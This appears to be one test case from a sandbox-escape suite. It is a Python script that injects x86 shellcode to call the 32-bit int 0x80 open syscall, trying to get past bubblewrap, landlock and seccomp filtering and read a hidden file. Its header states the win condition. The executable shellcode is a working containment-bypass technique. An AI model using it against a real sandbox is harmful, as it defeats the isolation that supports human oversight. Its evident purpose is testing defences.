# tries: the 32-bit entry of the kernel (int 0x80), where numbers of calls mean other calls
# stopped-by: bubblewrap, landlock, seccomp
# wins: raise
# needs: int80
import ctypes
import mmap
import os

# The path must lie below 4 GiB for a 32-bit call.
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
low = libc.mmap(ctypes.c_void_p(0x10000000), 4096, 3, 0x32 | 0x10, -1, 0)
path = b"@HIDDEN@\0"
ctypes.memmove(low, path, len(path))
# push rbx; mov ebx, edi; mov eax, 5 (open of i386); xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; ret
code = bytes.fromhex("5389fbb80500000031c931d2cd805bc3")
fd = -1
try:
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    fd = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint)(address)(low)
except OSError:
    pass
if fd >= 0:
    raise RuntimeError(f"PWNED: {os.read(fd, 100)!r}")
